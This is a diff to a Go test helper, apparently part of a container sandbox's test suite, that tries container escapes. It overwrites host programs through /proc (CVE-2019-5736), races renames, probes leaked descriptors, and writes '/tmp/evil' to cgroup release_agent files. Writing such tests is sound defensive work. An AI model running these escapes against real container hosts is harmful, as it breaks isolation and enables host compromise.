@@ -1,16 +1,26 @@
-// Command attacker runs in a container of a test and tries what its first argument says until
-// it is killed. It prints a line for each success.
+// Command attacker runs in a container of a test and tries what its first argument says, once or
+// until SIGTERM. It prints a line for each success, and at its end how often it has tried: a test
+// whose attacker has not attacked must fail.
 package main
 
 import (
 	"bytes"
 	"fmt"
 	"os"
+	"os/signal"
 	"path/filepath"
+	"runtime"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"syscall"
 )
+
+// tried counts attempts, in contrast to successes.
+var tried atomic.Int64
+
+// The victim gives up the privileges of the main thread, by which the kernel judges a process.
+func init() { runtime.LockOSThread() }
 
 func main() {
 	if len(os.Args) < 2 {
@@ -18,13 +28,24 @@ func main() {
 		os.Exit(2)
 	}
 	attack, known := map[string]func([]string){
-		"processes": processes, "exchange": exchange, "descriptors": descriptors, "release-agent": releaseAgent,
+		"processes": processes, "exchange": exchange, "descriptors": descriptors, "release-agent": releaseAgent, "victim": victim,
 	}[os.Args[1]]
 	if !known {
 		fmt.Fprintf(os.Stderr, "attacker: %q is unknown\n", os.Args[1])
 		os.Exit(2)
 	}
 	attack(os.Args[2:])
+	fmt.Println("TRIED", tried.Load())
+}
+
+// attacking tells the test that the attack has begun, and returns what is false after SIGTERM.
+func attacking() (goOn func() bool) {
+	term := make(chan os.Signal, 1)
+	signal.Notify(term, syscall.SIGTERM)
+	var over atomic.Bool
+	go func() { <-term; over.Store(true) }()
+	fmt.Println("ready")
+	return func() bool { return !over.Load() }
 }
 
 // planBase is where a process that carries out a plan has it; see runtime/zygote/zygote.h.
@@ -37,17 +58,36 @@ func processes([]string) {
 	if err := syscall.Stat("/", &root); err != nil {
 		report("stat: %v", err)
 	}
-	fmt.Println("ready")
+	goOn := attacking()
 	own := os.Getpid()
 	buf := make([]byte, 64<<10)
-	for {
+	for goOn() {
 		names, _ := filepath.Glob("/proc/[0-9]*")
 		for _, dir := range names {
 			pid, _ := strconv.Atoi(filepath.Base(dir))
 			if pid == own {
 				continue
 			}
+			tried.Add(1)
 			look(dir, &root, buf)
+		}
+		overwrite()
+	}
+}
+
+// programs are those of other processes, held open: a program cannot be written to while it runs.
+var programs = map[string]*os.File{}
+
+// overwrite writes to the programs of processes that have ended (CVE-2019-5736).
+func overwrite() {
+	for exe, f := range programs {
+		if w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0); err == nil {
+			if _, err := w.WriteAt([]byte{0}, 0); err == nil {
+				report("overwritten %s", exe)
+			}
+			w.Close()
+			f.Close()
+			delete(programs, exe)
 		}
 	}
 }
@@ -78,11 +118,10 @@ func look(dir string, root *syscall.Stat_t, buf []byte) {
 		if !strings.HasPrefix(exe, "/memfd:") && exe != "/bin/busybox" && exe != "/attacker" {
 			report("program of the host %s", exe)
 		}
-		if f, err := os.OpenFile(dir+"/exe", os.O_WRONLY, 0); err == nil {
-			if _, err := f.WriteAt([]byte{0}, 0); err == nil && strings.HasPrefix(exe, "/memfd:") {
-				report("starter overwritten")
+		if exe != "/bin/busybox" && exe != "/attacker" && programs[exe] == nil {
+			if f, err := os.Open(dir + "/exe"); err == nil {
+				programs[exe] = f
 			}
-			f.Close()
 		}
 	}
 	fds, _ := os.ReadDir(dir + "/fd")
@@ -97,10 +136,12 @@ func look(dir string, root *syscall.Stat_t, buf []byte) {
 
 // exchange swaps two names as fast as it can.
 func exchange(args []string) {
-	fmt.Println("ready")
+	goOn := attacking()
 	a, b := append([]byte(args[0]), 0), append([]byte(args[1]), 0)
-	for {
-		renameExchange(a, b)
+	for goOn() {
+		if renameExchange(a, b) {
+			tried.Add(1)
+		}
 	}
 }
 
@@ -111,6 +152,7 @@ func descriptors([]string) {
 		if syscall.Fstat(fd, &st) != nil {
 			continue
 		}
+		tried.Add(1)
 		to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
 		switch {
 		case st.Mode&syscall.S_IFMT == syscall.S_IFDIR:
@@ -123,18 +165,22 @@ func descriptors([]string) {
 
 // releaseAgent looks for a cgroup that it can make the host's kernel execute a program from.
 func releaseAgent([]string) {
-	files, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
-	more, _ := filepath.Glob("/sys/fs/cgroup/*/notify_on_release")
-	for _, f := range append(files, more...) {
-		if err := os.WriteFile(f, []byte("/tmp/evil"), 0); err == nil {
-			report("wrote %s", f)
+	for name, text := range map[string]string{"release_agent": "/tmp/evil", "notify_on_release": "1"} {
+		files, _ := filepath.Glob("/sys/fs/cgroup/*/" + name)
+		for _, f := range files {
+			tried.Add(1)
+			if err := os.WriteFile(f, []byte(text), 0); err == nil {
+				report("wrote %s", f)
+			}
 		}
 	}
+	tried.Add(1)
 	if syscall.Mount("", "/sys/fs/cgroup", "", syscall.MS_REMOUNT|syscall.MS_BIND, "") == nil {
 		report("remounted")
 	}
 	_ = os.Mkdir("/tmp/cg", 0o755)
 	for _, kind := range []string{"rdma", "memory", "pids"} {
+		tried.Add(1)
 		if syscall.Mount("cgroup", "/tmp/cg", "cgroup", 0, kind) == nil {
 			report("mounted %s", kind)
 		}
